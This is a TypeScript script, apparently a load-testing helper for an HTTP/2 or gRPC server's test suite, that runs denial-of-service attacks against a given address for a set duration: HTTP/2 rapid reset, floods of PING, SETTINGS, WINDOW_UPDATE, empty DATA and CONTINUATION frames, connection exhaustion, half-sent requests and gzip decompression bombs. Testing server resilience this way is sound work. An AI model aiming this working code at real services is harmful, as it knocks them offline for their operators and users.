import { constants } from "node:http2";
import { connect, type Socket } from "node:net";
import { gzipSync } from "node:zlib";
import { callHeaders, Flag, frame, RawPeer, Type, uint32 } from "./raw-peer.js";

// A program of its own, so that it takes no time from the server's loop: attacks the address that it is
// given, in the way that it is given, again and again for so many milliseconds.

const [address = "", attack = "", duration = "0", from = "127.0.0.2"] = process.argv.slice(2);
const until = Date.now() + Number(duration);
const goesOn = () => Date.now() < until;

const times = (count: number, make: (number: number) => Buffer) =>
  Buffer.concat(Array.from({ length: count }, (_, number) => make(number)));
const open = (stream: number) =>
  frame(Type.HEADERS, Flag.END_HEADERS, stream, callHeaders("Write"));

/** Floods, and connects again when it is thrown out, for as long as the attack lasts. */
async function flood(make: (round: number) => Buffer) {
  while (goesOn()) {
    const peer = await RawPeer.connect(address, from).catch(() => undefined);
    if (!peer) {
      await new Promise((resolve) => setTimeout(resolve, 1));
      continue;
    }
    const over = setTimeout(() => peer.socket.destroy(), until - Date.now());
    await peer.call(1).catch(() => undefined);
    peer.send(open(3));
    await peer.flood(make);
    clearTimeout(over);
  }
}

/** Opens as many connections as it is let. */
async function connections() {
  const sockets: Socket[] = [];
  const [host, port] = address.split(":");
  while (goesOn()) {
    for (let i = 0; i < 50 && sockets.length < 2_000; i++)
      sockets.push(
        connect({ port: Number(port), host: host!, localAddress: from }).on("error", () => {}),
      );
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
  for (const socket of sockets) socket.destroy();
}

/** As many calls as one connection may make, each with a request that stops half way; many times. */
async function halfSent() {
  const peers: RawPeer[] = [];
  while (goesOn()) {
    if (peers.length < 500) {
      const peer = await RawPeer.connect(address, from).catch(() => undefined);
      if (!peer) continue;
      peers.push(peer);
      for (let call = 0; call < 100; call++) {
        const stream = call * 2 + 1;
        peer.send(
          frame(Type.HEADERS, Flag.END_HEADERS, stream, callHeaders("Ask")),
          frame(Type.DATA, 0, stream, Buffer.from([0, 0, 0, 0, 100, 1, 2, 3])),
        );
      }
    } else await new Promise((resolve) => setTimeout(resolve, 50));
  }
  for (const peer of peers) peer[Symbol.dispose]();
}

/** Messages of 128 kB that would be 128 MB. */
async function gzipBombs() {
  const zipped = gzipSync(Buffer.alloc(128 * 1024 * 1024));
  const head = Buffer.concat([Buffer.from([1]), uint32(zipped.length)]);
  const message = Buffer.concat([head, zipped]);
  const headers = callHeaders("Ask", { "grpc-encoding": "gzip" });
  while (goesOn()) {
    const peer = await RawPeer.connect(address, from).catch(() => undefined);
    if (!peer) continue;
    for (let call = 0; call < 20; call++) {
      peer.send(frame(Type.HEADERS, Flag.END_HEADERS, call * 2 + 1, headers));
      for (let at = 0; at < message.length; at += 16_000)
        peer.send(frame(Type.DATA, 0, call * 2 + 1, message.subarray(at, at + 16_000)));
    }
    await new Promise((resolve) => setTimeout(resolve, 100));
    peer[Symbol.dispose]();
  }
}

const attacks: Record<string, () => Promise<void>> = {
  "rapid reset": () =>
    flood((round) =>
      times(100, (number) => {
        const stream = 5 + (round * 100 + number) * 2;
        const reset = frame(Type.RST_STREAM, 0, stream, uint32(constants.NGHTTP2_CANCEL));
        return Buffer.concat([open(stream), reset]);
      }),
    ),
  "zero WINDOW_UPDATE": () => flood(() => frame(Type.WINDOW_UPDATE, 0, 3, uint32(0))),
  PING: () => flood(() => times(500, () => frame(Type.PING, 0, 0, Buffer.alloc(8)))),
  SETTINGS: () => flood(() => times(500, () => frame(Type.SETTINGS, 0, 0))),
  "empty DATA": () => flood(() => times(2_000, () => frame(Type.DATA, 0, 3))),
  WINDOW_UPDATE: () => flood(() => times(2_000, () => frame(Type.WINDOW_UPDATE, 0, 3, uint32(1)))),
  CONTINUATION: () =>
    flood((round) =>
      round === 0
        ? frame(Type.HEADERS, 0, 5, callHeaders())
        : times(500, () => frame(Type.CONTINUATION, 0, 5)),
    ),
  connections,
  "half-sent calls": halfSent,
  "gzip bombs": gzipBombs,
};

await attacks[attack]!();
